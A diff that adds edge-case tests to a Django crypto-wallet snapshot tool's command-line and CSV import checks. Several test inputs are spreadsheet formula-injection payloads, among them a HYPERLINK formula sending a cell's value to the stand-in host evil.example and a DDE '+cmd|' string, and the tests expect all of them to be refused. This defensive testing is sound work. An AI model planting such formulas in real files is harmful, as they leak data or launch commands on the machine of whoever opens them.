@@ -10,6 +10,7 @@ this is the view from the command line.
 import io
 import subprocess
 import sys
+import time
 from dataclasses import dataclass
 
 import pytest
@@ -99,6 +100,27 @@ CASES = [
         ["create_snapshots", "--period", "daily", "--at", "2999-01-01"],
         "--at 2999-01-01 is in the future",
     ),
+    Case(
+        "create_snapshots: year 1 with an offset",
+        ["create_snapshots", "--period", "daily", "--at", "0001-01-01T00:00+01:00"],
+        "--at 0001-01-01T00:00+01:00 is before 2009-01-03",
+        subprocess=True,
+    ),
+    Case(
+        "create_snapshots: year 9999 with an offset",
+        ["create_snapshots", "--period", "hourly", "--at", "9999-12-31T23:00-05:00"],
+        "--at 9999-12-31T23:00-05:00 is in the future",
+    ),
+    Case(
+        "create_snapshots: before the first block",
+        ["create_snapshots", "--period", "daily", "--at", "2000-01-01"],
+        "--at 2000-01-01 is before 2009-01-03",
+    ),
+    Case(
+        "create_snapshots: a weekly boundary before the first block",
+        ["create_snapshots", "--period", "weekly", "--at", "2009-01-03"],
+        "weekly boundary 2008-12-28T00:00:00Z is before 2009-01-03",
+    ),
     # recalculate
     Case(
         "recalculate: unknown wallet",
@@ -117,6 +139,14 @@ CASES = [
         ["recalculate", "--wallet", "abc"],
         "argument --wallet: invalid int value: 'abc'",
     ),
+    Case(
+        "recalculate: Arabic-Indic digits",
+        ["recalculate", "--wallet", "\u0661"],
+        "argument --wallet: invalid int value: '\u0661' (ASCII digits)",
+        subprocess=True,
+    ),
+    Case("recalculate: full-width digits", ["recalculate", "--wallet", "\uff11"], "invalid int value"),
+    Case("recalculate: underscores", ["recalculate", "--wallet", "1_000"], "invalid int value: '1_000'"),
     Case("recalculate: no target", ["recalculate"], "one of the arguments --wallet --all is required"),
     Case("recalculate: two targets", ["recalculate", "--wallet", "1", "--all"], "not allowed with argument --wallet"),
     Case(
@@ -155,6 +185,11 @@ CASES = [
         "backfill: unknown wallet",
         ["backfill_snapshots", "--period", "daily", "--since", "2026-01-01", "--wallet", "999999"],
         "wallet 999999 does not exist",
+    ),
+    Case(
+        "backfill: Arabic-Indic wallet id",
+        ["backfill_snapshots", "--period", "daily", "--since", "2026-01-01", "--wallet", "\u0661"],
+        "invalid int value",
     ),
     # cleanup_snapshots
     Case(
@@ -196,6 +231,7 @@ CASES = [
         subprocess=True,
     ),
     Case("export_balances: id not a number", ["export_balances", "--wallet", "0x1"], "invalid int value: '0x1'"),
+    Case("export_balances: full-width id", ["export_balances", "--wallet", "\uff11"], "invalid int value"),
     Case("export_balances: unknown format", ["export_balances", "--format", "xlsx"], "invalid choice: 'xlsx'"),
     # jobs_status
     Case(
@@ -244,6 +280,73 @@ CASES = [
     tx_file("price NaN", csv_bytes(TX_HEADER, tx_row(price="NaN")), "line 2: price_usd 'NaN' is not a finite number"),
     tx_file("price of 61 digits", csv_bytes(TX_HEADER, tx_row(price="9" * 61)), "has 61 integer digits; at most 20"),
     tx_file(
+        "amount of 100,000 digits",
+        csv_bytes(TX_HEADER, tx_row("9" * 100_000)),
+        "line 2: amount '99999999999999999999'… (100,000 characters) has 100000 integer digits; at most 60 fit",
+        subprocess=True,
+    ),
+    tx_file("amount 1_000", csv_bytes(TX_HEADER, tx_row("1_000")), "line 2: amount '1_000' is not a number"),
+    tx_file("amount in Arabic-Indic digits", csv_bytes(TX_HEADER, tx_row("١٢")), "amount '١٢' is not a number"),
+    tx_file("amount in full-width digits", csv_bytes(TX_HEADER, tx_row("１２")), "amount '１２' is not a number"),
+    tx_file(
+        "timestamp near year 1 with an offset",
+        csv_bytes(TX_HEADER, tx_row(at="0001-01-01T00:00:00+01:00")),
+        "line 2: timestamp '0001-01-01T00:00:00+01:00' is before 2009-01-03",
+        subprocess=True,
+    ),
+    tx_file(
+        "timestamp near year 9999 with an offset",
+        csv_bytes(TX_HEADER, tx_row(at="9999-12-31T23:00:00-05:00")),
+        "line 2: timestamp '9999-12-31T23:00:00-05:00' is more than one day in the future",
+    ),
+    tx_file(
+        "timestamp before the first block",
+        csv_bytes(TX_HEADER, tx_row(at="2008-01-01T00:00:00Z")),
+        "line 2: timestamp '2008-01-01T00:00:00Z' is before 2009-01-03",
+    ),
+    tx_file(
+        "a byte-order mark inside a field",
+        csv_bytes(TX_HEADER, tx_row().replace(",ETH,", ",\ufeffETH,")),
+        "line 2: token '\\ufeffETH' contains an invisible or control character (U+FEFF",
+    ),
+    tx_file(
+        "a BOM at the start of a data line",
+        csv_bytes(TX_HEADER, "\ufeff" + tx_row()),
+        "line 2: wallet '\\ufeff0x",
+    ),
+    tx_file(
+        "a quoted newline inside an address",
+        csv_bytes(TX_HEADER, tx_row().replace(WALLET, f'"{WALLET[:10]}\n{WALLET[10:]}"')),
+        "line 2: wallet '0x00000000\\n",
+    ),
+    tx_file(
+        "a formula as the wallet",
+        csv_bytes(TX_HEADER, tx_row().replace(WALLET, '"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"')),
+        "line 2: wallet '=HYPERLINK",
+        subprocess=True,
+    ),
+    tx_file(
+        "a formula as the token",
+        csv_bytes(TX_HEADER, tx_row().replace(",ETH,", ",+cmd|'/C calc'!A0,")),
+        "begins with '+'",
+    ),
+    tx_file("a formula as the tx hash", csv_bytes(TX_HEADER, tx_row(tx_hash="@SUM(1+1)*cmd|x")), "begins with '@'"),
+    tx_file(
+        "an EVM address with a wrong checksum",
+        csv_bytes(TX_HEADER, tx_row().replace(WALLET, "0x52908400098527886E0F7030069857D2E4169Ee7")),
+        "wrong EIP-55 checksum",
+    ),
+    tx_file(
+        "a 2 MB line",
+        csv_bytes(TX_HEADER, tx_row(tx_hash="0x" + "f" * 2_000_000)),
+        "line 2: the line is longer than 1,048,576 bytes",
+    ),
+    tx_file(
+        "a record of quoted fields running on over many lines",
+        csv_bytes(TX_HEADER) + b"0xa," + b'"x\n",' * 300_000,
+        "line 2: the record (lines 2-",
+    ),
+    tx_file(
         "timestamp without offset",
         csv_bytes(TX_HEADER, tx_row(at="2026-01-05T00:00:00")),
         "line 2: timestamp '2026-01-05T00:00:00' has no UTC offset",
@@ -291,6 +394,18 @@ CASES = [
         "price of 19 places", csv_bytes(PRICE_HEADER, price_row("0." + "0" * 18 + "1")), "has 19 decimal places"
     ),
     price_file("as_of without offset", csv_bytes(PRICE_HEADER, price_row(at="2026-01-05 00:00")), "has no UTC offset"),
+    price_file(
+        "as_of near year 1 with an offset",
+        csv_bytes(PRICE_HEADER, price_row(at="0001-01-01T00:00:00+01:00")),
+        "line 2: as_of '0001-01-01T00:00:00+01:00' is before 2009-01-03",
+        subprocess=True,
+    ),
+    price_file(
+        "as_of near year 9999 with an offset",
+        csv_bytes(PRICE_HEADER, price_row(at="9999-12-31T23:00:00-05:00")),
+        "is more than one day in the future",
+    ),
+    price_file("price 1_000", csv_bytes(PRICE_HEADER, price_row("1_000")), "line 2: price_usd '1_000' is not a number"),
     price_file(
         "malformed as_of", csv_bytes(PRICE_HEADER, price_row(at="2026-01-05T24:61Z")), "is not an ISO 8601 date-time"
     ),
@@ -404,3 +519,163 @@ def test_what_the_contract_accepts_is_accepted(history, tmp_path):
 
     call_command("create_snapshots", "--period", "hourly", "--at", "2026-01-05", stdout=io.StringIO())
     assert SnapshotRun.objects.filter(period="hourly", as_of=utc(2026, 1, 5, 0)).exists()
+
+
+# --- output to a reader that stops reading; input that never ends ---------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize("args", [["export_snapshots", "--period", "daily"], ["export_balances"]])
+def test_an_export_into_a_closed_pipe_stops_quietly(args, history):
+    """`export_snapshots | head -1`: the reader is gone before the command writes; exit 0, no traceback."""
+    process = subprocess.Popen(
+        [sys.executable, "manage.py", *args],
+        cwd=ROOT,
+        env=process_env(),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    process.stdout.close()  # like `head -1` once it has its line: every write now fails with EPIPE
+    try:
+        stderr = process.communicate(timeout=60)[1]
+    finally:
+        process.kill()
+    assert "Traceback" not in stderr and "BrokenPipeError" not in stderr, stderr
+    assert stderr == ""
+    assert process.returncode == 0
+
+
+def test_the_shell_pipeline_to_head_prints_one_line(tmp_path):
+    result = subprocess.run(
+        ["bash", "-c", f"set -o pipefail; {sys.executable} manage.py export_snapshots --period daily | head -1"],
+        cwd=ROOT,
+        env=process_env(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert result.stdout == "period,as_of,wallet,chain,token,amount,price_usd,value_usd,source\n"
+    assert result.stderr == "" and result.returncode == 0
+
+
+# Runs a command and prints its peak RSS (KiB): the only child of this wrapper is the command.
+PEAK_RSS = (
+    "import resource, subprocess, sys;"
+    "r = subprocess.run(sys.argv[1:], capture_output=True, text=True);"
+    "sys.stderr.write(r.stderr);"
+    "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
+)
+MAX_PEAK_RSS_KIB = 150 * 1024
+
+
+def _refused_import(path, command="import_transactions"):
+    started = time.monotonic()
+    result = subprocess.run(
+        [sys.executable, "-c", PEAK_RSS, sys.executable, "manage.py", command, str(path)],
+        cwd=ROOT,
+        env=process_env(),
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    returncode, peak_kib = map(int, result.stdout.split())
+    return returncode, peak_kib, result.stderr, time.monotonic() - started
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize("command", ["import_transactions", "import_prices"])
+def test_a_200_mb_line_is_refused_quickly_in_bounded_memory(command, tmp_path):
+    path = tmp_path / "one-line.csv"
+    with path.open("wb") as out:
+        out.write((TX_HEADER if command == "import_transactions" else PRICE_HEADER).encode() + b"\n")
+        chunk = b"a" * (8 * 1024 * 1024)
+        for _ in range(25):  # 200 MB, no newline
+            out.write(chunk)
+    returncode, peak_kib, stderr, seconds = _refused_import(path, command)
+    assert returncode == 1
+    assert stderr.strip().splitlines() == [
+        "CommandError: line 2: the line is longer than 1,048,576 bytes; this is not an import CSV file"
+    ]
+    assert peak_kib < MAX_PEAK_RSS_KIB, f"peak RSS {peak_kib / 1024:.0f} MiB"
+    assert seconds < 30
+
+
+@pytest.mark.django_db(transaction=True)
+def test_dev_zero_is_refused_quickly_in_bounded_memory():
+    returncode, peak_kib, stderr, seconds = _refused_import("/dev/zero")
+    assert returncode == 1
+    assert stderr.strip().splitlines() == [
+        "CommandError: line 1: the line is longer than 1,048,576 bytes; this is not an import CSV file"
+    ]
+    assert peak_kib < MAX_PEAK_RSS_KIB, f"peak RSS {peak_kib / 1024:.0f} MiB"
+    assert seconds < 30
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_100000_digit_amount_is_one_short_line_and_no_psycopg_warning(history, tmp_path):
+    path = tmp_path / "huge.csv"
+    path.write_bytes(csv_bytes(TX_HEADER, tx_row("9" * 100_000)))
+    result = subprocess.run(
+        [sys.executable, "manage.py", "import_transactions", str(path)],
+        cwd=ROOT,
+        env=process_env(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert result.returncode == 1
+    assert result.stdout == ""  # psycopg's "error ignored terminating Copy" warning went to the log (stdout)
+    (line,) = result.stderr.strip().splitlines()
+    assert len(line) < 200, line
+
+
+# --- ranges and filters are clamped, not refused --------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_export_filters_far_outside_are_clamped(history):
+    out = io.StringIO()
+    call_command(
+        "export_snapshots",
+        "--period",
+        "daily",
+        "--since",
+        "0001-01-01T00:00+01:00",
+        "--until",
+        "9999-12-31T23:00-05:00",
+        stdout=out,
+    )
+    assert len(out.getvalue().splitlines()) == 2  # the header and the snapshot of `history`
+
+
+@pytest.mark.django_db
+def test_a_backfill_from_year_1_starts_at_the_first_block(history):
+    from snapshots.models import SnapshotRun
+
+    out = io.StringIO()
+    call_command(
+        "backfill_snapshots",
+        "--period",
+        "weekly",
+        "--since",
+        "0001-01-01T00:00+01:00",
+        "--until",
+        "2009-01-20",
+        stdout=out,
+        stderr=io.StringIO(),
+    )
+    assert "Backfilled 3 weekly boundaries (2009-01-04T00:00Z to 2009-01-18T00:00Z)" in out.getvalue()
+    assert not SnapshotRun.objects.filter(as_of__year__lt=2009).exists()
+
+
+@pytest.mark.django_db
+def test_a_task_given_a_future_at_records_nothing(history):
+    from snapshots.models import SnapshotRun
+    from snapshots.tasks import create_daily_snapshots
+
+    before = database_state()
+    result = create_daily_snapshots(at="2099-01-01T00:00:00+00:00")
+    assert result["status"] == "error" and "in the future" in result["error"]
+    assert not SnapshotRun.objects.filter(as_of__year=2099).exists()
+    assert database_state() == before
